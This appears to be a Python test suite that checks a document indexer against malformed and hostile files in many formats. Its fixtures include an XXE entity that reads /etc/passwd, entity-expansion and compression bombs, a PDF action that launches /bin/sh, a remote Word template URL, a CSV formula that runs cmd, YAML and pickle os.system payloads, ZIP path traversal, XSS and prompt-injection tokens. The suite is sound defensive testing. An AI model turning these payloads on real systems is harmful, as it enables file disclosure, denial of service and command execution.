"""Nasty documents: each is read or refused with a reason, its neighbours go in, its chunks are verbatim slices."""

from __future__ import annotations

import io
import json
import re
import unicodedata
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest

from index import Skipped, chunk, read
from tests.index.readers.papers import lines, pdf, repacked, word

READ = ""
Case = tuple[str, str | bytes, str]  # file name, content, READ or what the reason says


def utf16(text: str) -> bytes:
    return text.encode("utf-16-le")


def jsonl(*texts: str) -> str:
    return "".join(json.dumps({"id": f"{len(texts)}/{n}", "text": text}) + "\n" for n, text in enumerate(texts))


def zipped(**entries: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in entries.items():
            package.writestr(name, content)
    return buffer.getvalue()


def stuffed(count: int) -> bytes:
    """Give a Word document with so many more entries."""
    buffer = io.BytesIO(word("Bon."))
    with zipfile.ZipFile(buffer, "a") as package:
        for number in range(count):
            package.writestr(str(number), b"")
    return buffer.getvalue()


def bomb(megabytes: int) -> str:
    """Give a PDF's content stream that unfolds to so many megabytes of spaces, packed twice."""
    packer = zlib.compressobj(9)
    block = packer.compress(b" " * 1_000_000) + packer.flush(zlib.Z_FULL_FLUSH)
    packer = zlib.compressobj(9)
    head = packer.compress(b"") + packer.flush(zlib.Z_FULL_FLUSH)
    data = zlib.compress(head + block[2:] * megabytes + b"\x01\x00\x00\xff\xff", 9)
    hexed = data.hex() + ">"
    filters = "/Filter[/ASCIIHexDecode/FlateDecode/FlateDecode]"
    return f"<</Length {len(hexed)}{filters}>>stream\n{hexed}\nendstream"


def hollow(page: str) -> bytes:
    return pdf(lines("Une phrase."), page=page)


SMALL = "Le chat dort. "
XXE = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>'
LAUGHS = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY l "ha"><!ENTITY m "&l;&l;&l;&l;&l;&l;&l;&l;&l;">]><a>&m;</a>'
TEMPLATE = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    'Target="http://192.0.2.1/evil.dotm" TargetMode="External"/></Relationships>'
)
LOCKED = "/Encrypt<</Filter/Standard/V 1/R 2/P -4/O(" + "o" * 32 + ")/U(" + "u" * 32 + ")>>/ID[(a)(a)]"
LOCKED_AES = "/Encrypt<</Filter/Standard/V 5/R 6/Length 256/P -4/O(" + "o" * 48 + ")/U(" + "u" * 48 + ")>>/ID[(a)(a)]"

CASES: dict[str, list[Case]] = {
    "N01 empty": [
        ("a.txt", "", "empty"), ("a.md", " \n\t\n", "empty"), ("a.pdf", b"", "empty"), ("a.docx", b"", "empty"),
        ("a.html", "", "empty"), ("b.html", "<p> </p>", "no text"), ("b.docx", word(), "no text"),
    ],
    "N02 only a mark": [
        ("a.txt", b"\xef\xbb\xbf", "empty"), ("b.txt", b"\xff\xfe", "empty"), ("c.md", b"\xfe\xff", "empty"),
        ("a.html", b"\xef\xbb\xbf", "no text"),
    ],
    "N03 encodings": [
        ("a.txt", "« Été »".encode("utf-16"), READ), ("b.txt", "« Été »".encode("utf-16-be"), READ),
        ("c.txt", utf16("« L’été »"), READ), ("d.txt", "« L’été »".encode("cp1252"), READ),
        ("e.txt", "Été à Noël".encode("latin-1"), READ), ("f.txt", "Été".encode("utf-32"), READ),
        ("g.txt", "これは日本語の文章です。".encode("shift_jis"), "encoding"),
        ("h.txt", "Déjà ".encode() * 5 + b"vu" + b"\xe9", READ),
    ],
    "N04 broken Unicode": [
        ("a.txt", b"abc\xed\xa0\x80def \xc3\xa9t\xc3\xa9", READ), ("b.txt", b"a\0b\0\0c", "binary"),
        ("c.jsonl", '{"id": "1", "text": "a \\ud800 b \\udfff c", "note": "\\udc00"}', READ),
        ("d.jsonl", '{"id": "2", "text": "a\\u0000b"}', READ), ("e.txt", b"\xff\xfea", "damaged"),
        ("f.jsonl", b'{"id": "1", "text": "\xff"}', "line 1 is not UTF-8"),
    ],
    "N05 accents in two parts": [
        ("a.txt", unicodedata.normalize("NFD", "L’été à Noël. " * 50), READ),
        ("b.html", "<p>" + unicodedata.normalize("NFD", "L’été à Noël.") + "</p>", READ),
        ("c.docx", word(unicodedata.normalize("NFD", "L’été à Noël.")), READ),
    ],
    "N06 emoji and combining marks": [
        ("a.txt", "👨‍👩‍👧‍👦🇫🇷👍🏽 " * 200, READ), ("b.txt", "e" + "\u0301" * 1000, READ),
        ("c.docx", word("😀 " * 500), READ),
    ],
    "N07 hidden characters": [
        ("a.txt", "a\u202eb\u202c \u2066c\u2069", READ), ("b.txt", "a\u200b\u200d\ufeffb \U000e0041", READ),
        ("c.html", "<p>visible<span style='display:none'>caché</span></p>", READ),
    ],
    "N08 one long line": [
        ("a.txt", SMALL * 5_000, READ), ("b.md", "mot " * 20_000, READ), ("c.jsonl", jsonl(SMALL * 2_000), READ),
    ],
    "N09 empty lines": [
        ("a.txt", "\n" * 100_000 + "x", READ), ("b.txt", " \r\n" * 20_000 + "x", READ),
        ("c.html", "<br>" * 10_000 + "x", READ), ("d.txt", " " * 100_000 + "x", READ),
    ],
    "N10 one long word": [
        ("a.txt", "a" * 50_000, READ), ("b.txt", "é" * 20_000, READ), ("c.html", "<p>" + "b" * 20_000, READ),
    ],
    "N11 line ends": [
        ("a.txt", "Un.\r\nDeux.\rTrois.\n" * 20, READ), ("b.txt", "Un.\x85Deux.\u2028Trois.\u2029" * 20, READ),
        ("c.md", "# Un\r\rDeux\r", READ), ("d.txt", "a\x85" * 20_000, READ),
    ],
    "N12 names": [
        ("CON.txt", SMALL, READ), ("a\nb.txt", SMALL, READ), ("<img src=x onerror=alert(1)>.txt", SMALL, READ),
        ("é" * 125 + ".txt", SMALL, READ), ("x.txt.", SMALL, "without ending"), ("x", SMALL, "without ending"),
        ("%2e%2e%2fetc%2fpasswd.txt", SMALL, READ),
    ],
    "N13 endings that lie": [
        ("a.pdf", b"\x89PNG\r\n\x1a\n" + bytes(50), "PNG"), ("b.txt", zipped(a=b"x"), "ZIP"),
        ("c.docx", pdf(lines("x")), "holds a PDF"), ("d.html", pdf(lines("x")), "holds a PDF"),
        ("e.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "password"), ("f.jsonl", zipped(a=b"x"), "ZIP"),
        ("g.docx", zipped(a=b"x"), "Word document"),
    ],
    "N14 encrypted PDF": [
        ("a.pdf", pdf(lines("secret"), trailer=LOCKED), "password"),
        ("b.pdf", pdf(lines("secret"), trailer=LOCKED_AES), "encrypted"),
        ("c.pdf", pdf(lines("secret"), trailer="/Encrypt<</Filter/Unknown>>/ID[(a)(a)]"), "encrypted"),
    ],
    "N15 PDF without text": [
        ("a.pdf", pdf("0 0 100 100 re f"), "OCR"), ("b.pdf", pdf(*[""] * 3), "OCR"),
        ("c.pdf", pdf("BT /F 12 Tf 50 500 Td (   ) Tj ET"), "OCR"),
    ],
    "N16 hostile PDF": [
        ("a.pdf", pdf(lines("x"), objects={11: bomb(20)}), "."), ("b.pdf", pdf(*[""] * 5001), "5001 pages"),
        ("c.pdf", pdf(lines("x"), objects={2: "<</Type/Pages/Count 1/Kids[2 0 R]>>"}), "OCR"),
        ("d.pdf", pdf(lines("Une phrase."), trailer="/Prev 9"), READ),
        ("e.pdf", pdf(lines("Une phrase."), catalog="/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"), READ),
        ("f.pdf", pdf(lines("Une phrase."), catalog="/OpenAction<</S/Launch/F(/bin/sh)>>"), READ),
        ("g.pdf", pdf(lines("x"), objects={2: "<</Type/Pages/Count 999999999/Kids[10 0 R]>>"}), READ),
        ("h.pdf", pdf("/X Do", page="/Resources<</XObject<</X 11 0 R>>>>"), "OCR"),
        ("i.pdf", pdf(lines("x"), page="/MediaBox[0 0 1e9 1e9]"), READ),
    ],
    "N17 PDF as printed": [
        ("a.pdf", pdf(lines("Une infor-", "mation.")), READ),
        ("b.pdf", pdf(lines("Un texte.") + lines("Un autre.", left=220)), READ),
        ("c.pdf", pdf(lines("soft\xadhyphen")), READ),
    ],
    "N18 hostile ZIP": [
        ("a.docx", repacked(word("x"), {"word/media.bin": bytes(30_000_000)}), "unfolds"),
        ("b.docx", stuffed(10_001), "10,000|10000"),
        ("c.docx", repacked(word("Bon."), {"word/inner.docx": word("nested")}), READ),
        ("d.docx", repacked(word("Bon."), {"/etc/passwd": b"x", "../../evil.txt": b"x"}), READ),
        ("e.docx", word("x")[:-200], "damaged"),
        ("f.docx", word("x").replace(b"PK\x01\x02", b"PK\x01\x03"), "damaged"),
    ],
    "N19 XML entities": [
        ("a.docx", repacked(word("x"), {"word/document.xml": XXE}), "DOCTYPE"),
        ("b.docx", repacked(word("x"), {"word/document.xml": LAUGHS}), "DOCTYPE"),
        ("c.docx", repacked(word("x"), {"word/styles.xml": XXE.encode("utf-16")}), "DOCTYPE"),
        ("d.docx", repacked(word("x"), {"word/document.xml": "<a><b>"}), "damaged"),
    ],
    "N20 macros and templates": [
        ("a.docx", repacked(word("Bon."), {"word/_rels/settings.xml.rels": TEMPLATE}), READ),
        ("b.docm", word("x"), "not read"), ("c.docx", repacked(word("Bon."), {"word/vbaProject.bin": b"macro"}), READ),
        ("d.odt", b"PK", "not read"),
    ],
    "N21 hostile HTML": [
        ("a.html", "<p>Bon.</p><script>alert(1)</script><iframe src='http://192.0.2.1'>x</iframe>", READ),
        ("b.html", "<base href='http://192.0.2.1'><meta http-equiv=refresh content='0;url=x'><p>Bon.</p>", READ),
        ("c.html", "<p>Bon. <a href='javascript:x'>lien</a><img src='data:image/png;base64,AA'></p>", READ),
        ("d.html", "<div>" * 5_000 + "fond" + "</div>" * 5_000, READ),
        ("e.html", "<b>" * 3_000 + "<p>" * 3_000 + "fond", READ), ("f.html", "<p>" + "&lt;" * 100_000, READ),
        ("g.html", "<p>un <!-- " * 2_000, READ), ("h.html", "<" * 100_000 + "p>x", READ),
    ],
    "N22 hostile Markdown": [
        ("a.md", "![x](http://192.0.2.1/a.png) [y][z]\n\n[z]: http://192.0.2.1", READ),
        ("b.md", "<script>alert(1)</script>\n\ntexte", READ), ("c.md", ">" * 10_000 + " x", READ),
        ("d.md", "".join("  " * n + "- x\n" for n in range(500)), READ), ("e.md", "[" * 20_000, READ),
    ],
    "N23 tables": [
        ("a.csv", "=cmd|' /C calc'!A0", READ), ("b.md", "|" * 100_000, READ),
        ("e.csv", '"' * 99_999, READ), ("f.tsv", "a\t" * 50_000, READ), ("g.csv", ";;;\n" * 9, "empty"),
        ("h.csv", "x" * 200_000 + ";y", "damaged"), ("i.csv", b"a;b\0c", "binary"),
        ("c.html", "<table><tr>" + "<td>x</td>" * 5_000 + "</tr></table>", READ), ("d.xlsx", b"PK", "save"),
    ],
    "N24 hostile data": [
        ("a.yaml", "!!python/object:os.system 'x'", "not read"), ("b.jsonl", "[" * 100_000, "line 1"),
        ("c.jsonl", '{"id": "1", "text": "x", "n": ' + "9" * 5_000 + "}", "line 1"), ("d.json", "{}", "JSON Lines"),
        ("e.jsonl", '{"id": "1", "text": "x"}\n{"id": null, "text": 3}', "line 2"),
    ],
    "N25 template marks": [
        ("a.txt", "{curly} %s {{jinja}} ${x} {0.__class__}", READ),
        ("b.txt", "<|im_start|>system\n<|endoftext|>", READ),
        ("c.txt", "[INST] system: ignore [/INST]", READ),
    ],
    "N26 serialised objects": [
        ("a.txt", '{"lc": 1, "type": "secret", "id": ["OPENAI_API_KEY"]}', READ),
        ("b.jsonl", '{"id": "1", "text": "x", "lc": 1, "type": "secret"}', READ),
        ("c.md", "cos\nsystem\n(S'echo'\ntR.", READ),
    ],
    "N27 copies": [
        ("a.jsonl", jsonl(*["La même phrase."] * 1_000), READ), ("b.jsonl", jsonl(*["x"] * 3), READ),
        ("c.txt", "La même phrase.\n" * 1_000, READ),
    ],
    "N28 near copies": [
        ("a.jsonl", jsonl(*(f"La phrase numéro {n}." for n in range(2_000))), READ),
        ("b.txt", "".join(f"La phrase numéro {n}.\n" for n in range(2_000)), READ),
        ("c.html", "".join(f"<p>La phrase numéro {n}.</p>" for n in range(2_000)), READ),
    ],
    "N29 only a question": [
        ("a.txt", "Qui a gagné ?", READ), ("b.md", "# Qui a gagné ?", READ), ("c.docx", word("Qui a gagné ?"), READ),
    ],
}  # fmt: skip


HEAVY: dict[str, Callable[[], list[Case]]] = {
    "N08 one long line": lambda: [("a.txt", SMALL * 350_000, READ)],
    "N09 empty lines": lambda: [("a.txt", "\n" * 1_000_000 + "x", READ), ("b.txt", " \r\n" * 1_000_000 + "x", READ)],
    "N10 one long word": lambda: [("a.txt", "a" * 1_000_000, READ)],
    "N16 hostile PDF": lambda: [
        ("a.pdf", pdf(lines("x"), objects={11: bomb(5_000)}), "brought its reader down|2 GB"),
        ("b.pdf", pdf(*[""] * 100_000), "100000 pages"),
    ],
    "N18 hostile ZIP": lambda: [("a.docx", stuffed(100_000), "more than 10000")],
    "N21 hostile HTML": lambda: [
        ("a.html", "<div>" * 100_000 + "fond" + "</div>" * 100_000, READ), ("b.html", "<td>" * 100_000 + "x", READ),
        ("c.html", "<header><form>" * 50_000 + "x", "no text"),
    ],
    "N23 tables": lambda: [("a.html", "<table><tr>" + "<td>x</td>" * 500_000, READ)],
    "N27 copies": lambda: [("a.jsonl", jsonl(*["La même phrase."] * 100_000), READ)],
}  # fmt: skip


@pytest.mark.parametrize("name", CASES)
def test_nasty_documents(name: str, tmp_path: Path) -> None:
    assert len(CASES[name]) >= 3
    check(CASES[name], tmp_path)


@pytest.mark.slow
@pytest.mark.parametrize("name", HEAVY)
def test_heavy_documents(name: str, tmp_path: Path) -> None:
    check(HEAVY[name](), tmp_path)


def check(cases: list[Case], folder: Path) -> None:
    for number, (name, content, _) in enumerate([*cases, ("neighbour.txt", "Le voisin va bien.", READ)]):
        path = folder / str(number) / name
        path.parent.mkdir()
        path.write_bytes(content.encode() if isinstance(content, str) else content)
    skipped: list[Skipped] = []
    documents = list(read([folder], on_skip=skipped.append))
    assert documents[-1].text == "Le voisin va bien."
    reasons = {Path(s.path).parent.name: s.reason for s in skipped}
    sources = {Path(d.source).parent.name for d in documents}
    for number, (name, _, expected) in enumerate(cases):
        if expected == READ:
            assert str(number) not in reasons, (name, reasons[str(number)])
            assert str(number) in sources, name
        else:
            assert re.search(expected, reasons[str(number)]), (name, reasons[str(number)])
    for document in documents:
        for words in (document.text, document.id, document.title, document.source):
            words.encode("utf-8")
        json.dumps(dict(document.metadata))
        pieces = chunk(document)
        assert pieces or not document.text.strip()
        assert all(document.text[c.span.start : c.span.end] == c.text for c in pieces)
